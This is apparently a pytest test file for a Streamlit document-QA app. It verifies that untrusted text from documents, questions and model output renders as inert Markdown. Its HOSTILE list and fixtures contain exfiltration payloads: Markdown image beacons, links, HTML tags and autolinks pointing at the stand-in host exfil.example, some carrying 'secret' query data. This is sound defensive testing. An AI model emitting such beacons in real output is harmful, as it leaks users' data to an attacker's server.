"""Untrusted text is rendered inert: what documents, users and the LLM server wrote never
becomes an image the browser loads or a link it follows.

`ui.inert` is checked with a CommonMark parser (markdown-it-py) plus the patterns Streamlit's
renderer links in plain text after parsing (GitHub-flavoured autolink literals, copied from
its bundle); the pages are checked element by element through AppTest: every string Streamlit
reads as Markdown parses to no link, image or HTML, and blocks of text are shown as written.
The browser-level check (no request leaves loopback) is tests/e2e/test_inert_rendering.py.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from streamlit.testing.v1 import AppTest

import ui as _shared
from core.ingest.pipeline import IngestItem
from core.service import Loupe
from tests.app.support import answer_shown, make_app, on_page, run

# What an attacker writes: every way Markdown, HTML and Streamlit turn text into a request.
HOSTILE = [
    "![beacon](https://exfil.example/img.png?q=secret)",
    "[click](https://exfil.example/login)",
    "<img src=https://exfil.example/raw.png>",
    "<https://exfil.example/angle>",
    "visit https://exfil.example/bare or www.exfil.example today",
    "mail admin@exfil.example",
    "[ref][1]\n\n[1]: https://exfil.example/reference",
    "**bold** _it_ `code` $x^2$ :red[red] :material/home: # not a heading",
    "    indented line\n\n1. item\n- item\n> quote\n| a | b |\n|---|---|",
    "a\\\\b \\[1\\] &amp; &#x3C;img&#x3E;",
]
# Streamlit's renderer (remark-gfm) links these in text nodes, after escapes are resolved.
STREAMLIT_AUTOLINKS = [
    re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE),
    re.compile(r"(?<![^\s\W])([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)"),
]
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from walk(token.children or [])


def shown_text(markdown: str) -> str:
    """The text a Markdown string displays, line breaks included."""
    parts: list[str] = []
    for token in walk(PARSER.parse(markdown)):
        if token.type in ("text", "code_inline", "code_block", "fence", "html_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        elif token.type == "paragraph_close":
            parts.append("\n\n")
    return "".join(parts).strip("\n")


def requests_and_links(markdown: str) -> list[str]:
    """What in the Markdown would load something or link somewhere: images, links, HTML,
    and text Streamlit's renderer turns into links."""
    found = [
        f"{t.type}: {t.attrs or t.content!r}"
        for t in walk(PARSER.parse(markdown))
        if t.type in ("link_open", "image", "html_inline", "html_block")
    ]
    text = shown_text(markdown)
    return found + [f"autolink: {m.group()}" for p in STREAMLIT_AUTOLINKS for m in p.finditer(text)]


def live_parts(markdown: str) -> list[str]:
    """Anything in the Markdown that would render as other than its text."""
    found = requests_and_links(markdown)
    found += [
        t.type
        for t in walk(PARSER.parse(markdown))
        if t.type in ("code_inline", "code_block", "strong_open", "em_open", "s_open")
        or t.type.startswith(("heading", "bullet_list", "ordered_list", "blockquote", "table"))
    ]
    # Streamlit's directives (`:red[...]`, `:material/icon:`) and LaTeX are syntax CommonMark
    # does not know: unescaped openers in the source.
    found += re.findall(r"(?<!\\)(?::\w+\[|:material/\w+:|\$)", markdown)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_markdown_shows_the_text_and_nothing_live(text: str) -> None:
    markdown = _shared.inert(text)
    assert live_parts(markdown) == []
    expected = text.replace("\r\n", "\n")
    shown = shown_text(markdown).replace("\u2060", "").replace("\u00a0", " ")
    # Blank lines are paragraph breaks, and markdown-it (unlike browsers) strips no-break
    # spaces at a line's start; everything else is kept character for character.
    assert normalized(shown) == normalized(expected)


def normalized(text: str) -> str:
    return re.sub(r"\n\s*\n", "\n\n", "\n".join(line.lstrip() for line in text.split("\n")))


def test_leading_spaces_are_kept_without_making_a_code_block() -> None:
    markdown = _shared.inert("first\n\n    indented\n\ttabbed")
    assert "\u00a0" * 4 + "indented" in markdown and "\u00a0" * 4 + "tabbed" in markdown
    assert not [t for t in walk(PARSER.parse(markdown)) if t.type == "code_block"]


def test_the_helper_really_is_needed() -> None:
    """The checks above can fail: raw text through them is live."""
    for text in HOSTILE[:7]:
        assert live_parts(text), text


# The pages -----------------------------------------------------------------------------------

BEACON_DOC = IngestItem(
    "leave ![n](https:⁄⁄exfil.example⁄name.png).md",
    b"# Policies\n\n## Leave ![h](https://exfil.example/heading.png)\n\n"
    b"New employees receive 25 days of paid annual leave "
    b"![beacon](https://exfil.example/answer.png?q=secret) as listed at "
    b"[the portal](https://exfil.example/portal) and www.exfil.example/leave.\n",
)
QUESTION = "How many days of paid annual leave ![q](https://exfil.example/question.png) do we get?"
MARKDOWN_ELEMENTS = ("markdown", "caption", "warning", "info", "error", "success", "subheader")


def markdown_strings(at: AppTest) -> list[str]:
    """Every string on the page that Streamlit renders as Markdown: bodies and labels."""
    strings: list[str] = []
    for kind in MARKDOWN_ELEMENTS:
        strings += [str(element.value) for element in getattr(at, kind)]
    strings += [element.label for element in at.expander]
    for kind in ("text_input", "text_area", "segmented_control", "button", "toggle"):
        strings += [str(element.label) for element in getattr(at, kind)]
    strings += [str(toast.value) for toast in at.toast]
    return strings


# The one link Loupe itself puts in an answer: `[n]` to its passage on the Source page.
SOURCE_LINK = re.compile(r"^link_open: \{'href': '\./source\?answer=[0-9a-f]{32}&n=\d+'\}$")


def assert_page_inert(at: AppTest) -> None:
    """The app's own Markdown (bold, icons, the citation links it makes) is fine; nothing the
    documents, questions or the model wrote may load or link."""
    live = {
        s: [part for part in requests_and_links(s) if not SOURCE_LINK.match(part)]
        for s in markdown_strings(at)
    }
    assert {s: parts for s, parts in live.items() if parts} == {}
    assert "exfil" in "".join(e.value for e in at.text), "the hostile text is shown, as text"


def test_chat_and_review_render_hostile_documents_and_questions_inert(engine: Loupe) -> None:
    [result] = engine.ingest([BEACON_DOC])
    assert result.outcome == "indexed", result
    at = run(make_app())
    run(at.chat_input[0].set_value(QUESTION))
    reply = at.chat_message[1]
    answer = answer_shown(reply)
    assert "![beacon](https://exfil.example/answer.png?q=secret)" in answer, "shown as written"
    # Its citation is a link, to Loupe's own Source page only.
    links = requests_and_links(next(m.value for m in reply.markdown if "25 days" in m.value))
    assert links and all(SOURCE_LINK.match(link) for link in links), links
    assert any("exfil" in e.label for e in reply.expander), "the heading is in the label"
    assert_page_inert(at)

    at = on_page(make_app(), "pages/review.py")
    assert any("exfil" in h.value for h in at.subheader), "the question heads the review"
    assert_page_inert(at)


def test_a_streamed_answer_and_notices_render_inert() -> None:
    def script() -> None:
        import ui as _shared
        from core.answer.types import AnswerResult, AskEvent, Confidence, Source

        hostile = "![x](https://exfil.example/streamed.png) [y](https://exfil.example/)"
        source = Source(
            n=1,
            chunk_id="c",
            document_id="d",
            document="doc ![d](https://exfil.example/doc.png).md",
            page=None,
            heading="Top > [h](https://exfil.example/heading)",
            quote=hostile,
            score=1.0,
            keyword_score=None,
            vector_score=None,
            cited=True,
        )
        result = AnswerResult(
            question="q",
            standalone_question="q",
            answer=hostile + " [1]",
            sources=[source],
            confidence=Confidence(0.3, "low", ["reason ![r](https://exfil.example/r.png)"]),
            generator="fallback",
            model="m",
            prompt_version=None,
            notice="The language model failed (server said ![n](https://exfil.example/n.png)).",
        )
        events = [AskEvent("token", hostile), AskEvent("done", result=result)]
        final = _shared.stream_answer(iter(events))
        _shared.answer_notices(final)
        _shared.show_text(final.answer)
        _shared.sources(final)

    at = AppTest.from_function(script, default_timeout=300)
    run(at)
    assert_page_inert(at)
    assert any("streamed.png" in t.value for t in at.text)
    assert any("exfil" in w.value for w in at.warning), "the notice is shown, inert"
